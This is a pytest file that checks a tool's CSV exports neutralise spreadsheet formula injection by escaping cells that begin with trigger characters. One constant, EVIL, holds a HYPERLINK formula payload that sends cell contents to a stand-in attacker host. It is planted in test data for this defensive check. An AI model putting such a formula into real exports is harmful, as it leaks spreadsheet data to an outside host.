"""Every CSV linkgraph writes is safe to open in a spreadsheet (OWASP CSV injection).

An account whose email is a formula is planted in a campaign of a generated export; the
enforcement CSV (CLI and the app's download), the investigator query CSV and the helper all
write it as text. The sharing matches CSV is covered in ``test_sharing.py``.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from linkgraph import csvsafe
from linkgraph.casework import downloads
from linkgraph.store.duckdb import DuckDBStore

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")@x.com'


def cli(*args: str) -> str:
    res = subprocess.run(
        [sys.executable, "-m", "linkgraph.cli", *args],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert res.returncode == 0, res.stderr + res.stdout
    return res.stdout


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_each_trigger_is_neutralised(trigger: str) -> None:
    assert csvsafe.neutralise(f"{trigger}1+1") == f"'{trigger}1+1"


def test_plain_text_and_numbers_are_left_alone() -> None:
    df = pd.DataFrame(
        {
            "delta": [-3, 4],  # a negative number is data, not a formula
            "score": [-0.5, 0.25],
            "text": ["-3", "ann@x.com"],
            "when": pd.to_datetime(["2026-01-01", None], utc=True),
            "missing": [None, "@home"],
        }
    )
    rows = list(csv.DictReader(io.StringIO(csvsafe.to_csv(df))))
    assert [r["delta"] for r in rows] == ["-3", "4"] and [r["score"] for r in rows] == ["-0.5", "0.25"]
    assert [r["text"] for r in rows] == ["'-3", "ann@x.com"]
    assert [r["missing"] for r in rows] == ["", "'@home"]
    assert df["text"].tolist() == ["-3", "ann@x.com"]  # the caller's frame is not changed


@pytest.fixture(scope="module")
def evil_store(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    root = tmp_path_factory.mktemp("csv-injection")
    export = root / "export"
    cli("generate", str(export), "--accounts", "2000", "--seed", "5")
    truth = pd.read_csv(export / "truth.csv", dtype=str)
    victim = str(truth.dropna(subset=["campaign_id"])["account_id"].iloc[0])
    (export / "truth.csv").unlink()
    accounts = pd.read_csv(export / "accounts.csv", dtype=str, keep_default_na=False)
    accounts.loc[accounts["account_id"] == victim, "email"] = EVIL
    accounts.to_csv(export / "accounts.csv", index=False)
    db = root / "s.duckdb"
    cli("load", str(export), "--db", str(db))
    cli("detect", "--db", str(db))
    return db, victim


def _no_live_cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    live = [c for r in rows[1:] for c in r if c.startswith(csvsafe.FORMULA_TRIGGERS)]
    assert not live, live[:3]
    return rows


def test_enforcement_csv_writes_the_formula_email_as_text(
    evil_store: tuple[Path, str], tmp_path: Path
) -> None:
    db, victim = evil_store
    out = tmp_path / "ban.csv"
    cli("export", "--format", "csv", "--all", "--out", str(out), "--db", str(db))
    rows = _no_live_cells(out.read_text())
    header = rows[0]
    mine = [r for r in rows[1:] if r[header.index("account_id")] == victim]
    assert mine and mine[0][header.index("email")] == "'" + EVIL
    assert all(float(r[header.index("cluster_score")]) >= 0 for r in rows[1:])  # numbers stay numbers


def test_app_download_is_the_same_safe_csv(evil_store: tuple[Path, str]) -> None:
    db, victim = evil_store
    with DuckDBStore(db, read_only=True) as s:
        members = s.read_result("members").to_pandas()
        cluster = str(members.loc[members["account_id"] == victim, "cluster_id"].iloc[0])
        data = downloads.export_bytes(s, "csv", [cluster]).decode()
    rows = _no_live_cells(data)
    assert any(("'" + EVIL) in r for r in rows)


def test_query_csv_writes_the_formula_email_as_text(evil_store: tuple[Path, str]) -> None:
    db, victim = evil_store
    text = cli("query", "account", "--param", f"account_id={victim}", "--format", "csv", "--db", str(db))
    rows = _no_live_cells(text)
    assert rows[1][rows[0].index("email")] == "'" + EVIL


def test_generated_exports_hold_no_formula_cells(evil_store: tuple[Path, str], tmp_path: Path) -> None:
    # the generator's CSVs are loader input (not neutralised: a quote would change the data);
    # they must therefore never contain a cell a spreadsheet would run
    out = tmp_path / "gen"
    cli("generate", str(out), "--accounts", "500", "--seed", "3")
    for path in out.glob("*.csv"):
        _no_live_cells(path.read_text())
